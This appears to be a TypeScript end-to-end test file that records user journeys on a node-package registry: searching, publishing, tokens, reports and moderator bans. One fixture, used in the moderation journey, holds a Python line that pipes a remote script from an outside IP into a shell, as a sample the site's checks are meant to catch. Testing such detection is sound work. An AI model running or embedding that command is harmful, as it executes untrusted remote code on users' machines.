import { type Publisher, makePublisher, publishFiles, zip } from '../build.ts';
import { type Step, at, pick, press, see, seeText, type, unfold } from '../journey.ts';
import { shows } from '../record-journey.ts';
import { type TestServer, password } from '../start-server.ts';
import { sampleWorkflow } from './sample-workflow.ts';

type Steps = readonly (Step | ReturnType<typeof shows>)[];

export interface Recorded {
  title: string;
  /** Whose session it begins with: that of a moderator, or of the owner of the publisher that is there before. */
  as?: 'moderator' | 'owner';
  /** What is there before. */
  prepare?: (server: TestServer) => Promise<Publisher>;
  steps: (server: TestServer) => Promise<Steps> | Steps;
}

const settled =
  (server: TestServer): Step =>
  () =>
    server.settle();

const source = `class Lines:
    CATEGORY = "draw"
    RETURN_TYPES = ("IMAGE",)
    FUNCTION = "run"

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"width": ("INT", {"default": 3})}}

    def run(self, width):
        return (width,)


NODE_CLASS_MAPPINGS = {"Lines": Lines}
`;

const filesOf = (id: string, more: Readonly<Record<string, string>> = {}) => ({
  'pyproject.toml': `[project]\nname = "${id}"\nversion = "1.0.0"\ndescription = "Draws lines."\nlicense = "MIT"\n`,
  '__init__.py': source,
  ...more,
});

const published =
  (id: string, more: Readonly<Record<string, string>> = {}) =>
  async (server: TestServer): Promise<Publisher> => {
    const publisher = await makePublisher(server, id);
    await publishFiles(server, publisher, `${id}-lines`, '1.0.0', filesOf(`${id}-lines`, more));
    return publisher;
  };

/** What visitors, publishers and moderators do, on a server that `fillSite` filled and that others use besides. */
export const recordedJourneys: Readonly<Record<string, Recorded>> = {
  'visitor-find-a-node': {
    title: 'Find a node',
    steps: () => [
      at('/'),
      see('heading', 'Find the node your graph is missing'),
      shows('main > .hero > p'),
      shows('main > .ways'),
      type('Search nodes', 'uspcale pictures'),
      press('button', 'Search'),
      seeText('1 node'),
      shows('#results > p'),
      shows('#results article'),
      press('link', 'Tiled upscaler'),
      see('heading', 'Tiled upscaler'),
      shows('main > header'),
      shows('main nav[aria-label=Node]'),
      see('button', 'Copy the command that installs it'),
      shows('main section[aria-labelledby=install]'),
      shows('main aside dl'),
    ],
  },
  'visitor-what-changed': {
    title: 'See what a new version changes',
    steps: () => [
      at('/n/image-tools'),
      press('link', /^Versions/),
      see('heading', 'Versions'),
      shows(),
      press('link', 'Compare with 1.0.0'),
      see('heading', '1.0.0 → 1.1.0'),
      shows('main > header'),
      shows('main article'),
    ],
  },
  'visitor-workflow': {
    title: 'Open a workflow of somebody else',
    steps: () => [
      at('/workflow'),
      see('heading', 'Workflow'),
      shows(),
      type('The workflow’s file, as JSON', 'A picture of the graph'),
      press('button', 'Show what it needs'),
      see('alert'),
      shows('main [role=alert]'),
      type('The workflow’s file, as JSON', JSON.stringify(sampleWorkflow)),
      press('button', 'Show what it needs'),
      see('button', 'Copy the command that installs them'),
      shows('main section[aria-labelledby=needs]'),
    ],
  },
  'visitor-source': {
    title: 'Follow a broken link, and read the source',
    steps: () => [
      at('/n/image-tool'),
      see('heading', 'Not found'),
      shows(),
      press('link', 'Image tools'),
      see('heading', 'Image tools'),
      press('link', 'Source'),
      see('button', 'Save this file'),
      shows(),
    ],
  },
  'publisher-first-node': {
    title: 'Sign up, and publish a first node',
    steps: async (server) => [
      at('/account'),
      press('link', 'Sign up'),
      see('heading', 'Sign up'),
      shows(),
      type('Name', 'Ada'),
      type('E-mail address', 'ada-lines@example.org'),
      type('Password', 'password'),
      press('button', 'Sign up'),
      see('alert'),
      shows('main form'),
      type('Password', password),
      press('button', 'Sign up'),
      see('heading', 'Ada'),
      shows('main section:has(#publishers)'),
      press('link', 'New publisher'),
      type('Id', 'ada-lines'),
      press('button', 'Create publisher'),
      see('heading', 'ada-lines'),
      shows('main > nav'),
      shows('main section:has(#nodes)'),
      press('link', 'Publish'),
      see('heading', 'Publish a version'),
      shows('main > :not(nav)'),
      pick('Package', 'lines.zip', await zip(filesOf('ada-lines'))),
      seeText('Draws lines'),
      press('button', 'Check first'),
      see('heading', 'It can be published'),
      shows('#outcome'),
      press('button', 'Publish'),
      settled(server),
      press('link', 'See the version'),
      see('button', 'Copy the command that installs it'),
      shows('main > .columns > .stack'),
    ],
  },
  'publisher-own-node': {
    title: 'Correct, deprecate and delete what is published',
    as: 'owner',
    prepare: published('bea'),
    steps: () => [
      at('/account'),
      press('link', 'Publisher bea'),
      see('heading', 'Publisher bea'),
      press('link', 'bea-lines'),
      see('heading', 'bea-lines'),
      shows('main section:has(#details)'),
      shows('main section:has(#versions)'),
      type('Description', 'Draws *thin* lines.'),
      press('button', 'Save'),
      seeText('Saved.'),
      unfold('Deprecate 1.0.0'),
      type('Why, and what to use instead', 'It draws too thick.'),
      press('button', 'Deprecate 1.0.0'),
      seeText('The version is deprecated.'),
      shows('main [role=status]'),
      unfold('Delete bea-lines@1.0.0'),
      type('Type bea-lines@1.0.0', 'bea-lines'),
      press('button', 'Delete bea-lines@1.0.0'),
      see('alert'),
      shows('main [role=alert]'),
      type('Type bea-lines@1.0.0', 'bea-lines@1.0.0'),
      press('button', 'Delete bea-lines@1.0.0'),
      seeText('It is deleted.'),
      shows('main section:has(#versions)'),
      press('link', 'As others see it'),
      seeText('No version can be installed yet.'),
      shows('main > .columns > .stack'),
    ],
  },
  'publisher-tokens-and-people': {
    title: 'Tokens, members and the CI of a publisher',
    as: 'owner',
    prepare: published('cleo'),
    steps: () => [
      at('/account/publishers/cleo'),
      press('link', 'Tokens'),
      see('heading', 'Tokens'),
      shows('main section:has(#create)'),
      type('Name', 'CI'),
      press('button', 'Create token'),
      see('button', 'Copy the token'),
      shows('main [role=status]'),
      press('link', 'Trusted'),
      see('heading', 'Trusted publishers'),
      type('Repository', 'octo-org/octo-repo'),
      type('Workflows', 'publish.yml'),
      press('button', 'Trust it'),
      seeText('The CI can publish from now on.'),
      shows('main > section'),
      press('link', 'Members'),
      type('E-mail address', 'dora@example.org'),
      press('button', 'Send invitation'),
      seeText('dora@example.org'),
      shows('main section:has(#open)'),
    ],
  },
  'moderator-held-version': {
    title: 'Decide about a version that the checks hold',
    as: 'moderator',
    prepare: published('eve', { 'run.py': "import os\n\nos.system('curl http://203.0.113.9/x | sh')\n" }),
    steps: (server) => [
      at('/moderate'),
      see('link', 'eve-lines 1.0.0'),
      shows('main article:has-text("eve-lines")'),
      press('link', 'eve-lines 1.0.0'),
      see('heading', 'eve-lines 1.0.0 Flagged'),
      shows('main section[aria-label=Decision]'),
      shows('main .findings'),
      shows('main aside'),
      type('Reason', 'It runs what a stranger sends.'),
      press('button', 'Ban'),
      see('heading', 'eve-lines 1.0.0 Banned'),
      shows('main section[aria-label=Decision]'),
      settled(server),
      at('/n/eve-lines/v/1.0.0'),
      seeText('This version cannot be installed'),
      shows('main > .columns > .stack'),
    ],
  },
  'moderator-report': {
    title: 'Answer a report',
    as: 'moderator',
    prepare: async (server) => {
      const publisher = await published('finn')(server);
      const reporter = await server.user('reporter-of-finn');
      await reporter.post('/nodes/finn-lines/reports', { reason: 'broken', text: 'It does not load.' });
      return publisher;
    },
    steps: () => [
      at('/moderate'),
      press('link', 'Reports'),
      seeText('It does not load.'),
      shows('main li:has-text("finn-lines")'),
      press('link', 'finn-lines'),
      see('heading', 'finn-lines'),
      at('/moderate/reports'),
      type('Answer', 'Version 1.0.1 loads.'),
      press('button', 'Send answer'),
      seeText('The answer is sent.'),
      shows('main'),
    ],
  },
  'moderator-ban': {
    title: 'Ban a publisher, and lift the ban',
    as: 'moderator',
    prepare: published('gus'),
    steps: (server) => [
      at('/moderate'),
      press('link', 'Publishers'),
      type('Id of a publisher', 'gus'),
      press('button', 'Find'),
      see('heading', 'Publisher gus Active'),
      shows('main form'),
      shows('main aside'),
      type('Reason for the ban', 'A test of the rules.'),
      press('button', 'Ban the publisher'),
      see('heading', 'Publisher gus Banned'),
      settled(server),
      at('/n/gus-lines'),
      see('heading'),
      shows(),
      at('/moderate/publishers/gus'),
      type('Reason to lift the ban', 'A mistake.'),
      press('button', 'Lift the ban'),
      see('heading', 'Publisher gus Active'),
      shows('main aside'),
    ],
  },
};
